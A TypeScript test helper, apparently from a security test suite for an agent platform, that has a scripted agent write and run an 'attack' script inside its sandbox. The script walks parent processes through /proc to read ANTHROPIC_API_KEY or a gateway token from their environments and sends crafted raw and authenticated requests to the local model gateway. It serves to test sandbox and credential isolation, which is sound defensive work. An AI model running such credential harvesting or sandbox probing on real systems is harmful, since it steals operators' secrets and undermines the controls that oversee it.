import type { RunnerWorld } from './runner-world.ts'

/** What every attack begins with: the front's port and the token of the agent, wherever its program keeps them. */
const PRELUDE = `
import { connect } from 'node:net'
import { Agent, request } from 'node:http'
import { execFileSync } from 'node:child_process'
import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { setTimeout as pause } from 'node:timers/promises'

/** In the program that this one was started by. In the sandbox process others are in sight too, and perhaps ending. */
function find(name) {
  for (let pid = 'self'; Number(pid) !== 0; ) {
    let lines = []
    try { lines = readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0') } catch {}
    const line = lines.find((each) => each.startsWith(name + '='))
    if (line) return line.slice(name.length + 1)
    pid = /^PPid:\\s*(\\d+)/m.exec(readFileSync('/proc/' + pid + '/status', 'utf8'))?.[1] ?? '0'
  }
  return ''
}

const origin = new URL(execFileSync('git', ['remote', 'get-url', 'origin']).toString().trim())
const port = Number(origin.port)
const isClaude = find('ANTHROPIC_BASE_URL') !== ''
const token = isClaude ? find('ANTHROPIC_API_KEY') : find('SKEIN_GATEWAY_TOKEN')
const model = isClaude ? 'claude-sonnet-5' : 'gpt-5.5'
const call = isClaude ? '/model/anthropic/v1/messages' : '/model/openai/v1/responses'
const prompt = isClaude
  ? { model, max_tokens: 10, messages: [{ role: 'user', content: 'Hello.' }] }
  : { model, store: false, input: [{ type: 'message', role: 'user', content: [{ type: 'input_text', text: 'Hello.' }] }] }
const report = (found) => console.log('FOUND ' + JSON.stringify(found))
const tally = (all) => Object.fromEntries([...new Set(all)].map((one) => [one, all.filter((each) => each === one).length]))

/** Resolves to the status, or to the code of what broke. */
function ask(path, { method = 'POST', headers = {}, body = JSON.stringify(prompt), agent, key = token } = {}) {
  return new Promise((resolve) => {
    const sent = request({ host: '127.0.0.1', port, path, method, agent, headers: {
      'content-type': 'application/json', authorization: 'Bearer ' + key, ...headers,
    } })
    sent.once('response', (answer) => {
      let text = ''
      answer.on('data', (chunk) => (text += chunk))
      answer.once('close', () => resolve({ status: answer.statusCode, text: text.slice(0, 2000) }))
    })
    sent.once('error', (error) => resolve({ status: error.code, text: '' }))
    sent.end(body)
  })
}

/** Sends bytes as they are, and resolves to what came back once the other side has disconnected or the time is over. */
function send(bytes, { forMs = 5000 } = {}) {
  return new Promise((resolve) => {
    let text = ''
    const socket = connect(port, '127.0.0.1', () => socket.write(bytes))
    socket.on('data', (chunk) => (text += chunk))
    socket.on('error', () => {})
    const timer = setTimeout(() => socket.destroy(), forMs)
    socket.once('close', () => { clearTimeout(timer); resolve(text.slice(0, 4000)) })
  })
}
`

/** Steps of an agent that runs this program. It says what it found with \`report\`. */
export function attackSteps(program: string) {
  return [
    { write: { path: 'attack.mjs', text: PRELUDE + program } },
    { shell: 'node attack.mjs' },
    { say: 'Attacked.' },
  ]
}

export interface Outcome {
  /** What the program reported. */
  readonly found: Readonly<Record<string, unknown>>
  /** How the agent itself ended. */
  readonly error: string
}

export async function carryOut(
  world: RunnerWorld,
  name: string,
  program: string,
  fields: Readonly<Record<string, unknown>> = {},
): Promise<Outcome> {
  const agentId = await world.spawn(name, attackSteps(program), fields)
  const status = await world.settled(agentId, 300_000)
  const calls = await world.events(agentId, 'run.tool-called')
  const output = calls.map((each) => each.output).join('\n')
  const [, found] = /^FOUND (.*)$/m.exec(output) ?? []
  if (found === undefined) throw new Error(`The attack reported nothing: ${output.slice(-2000)}`)
  return { found: JSON.parse(found) as Outcome['found'], error: status.error.message }
}
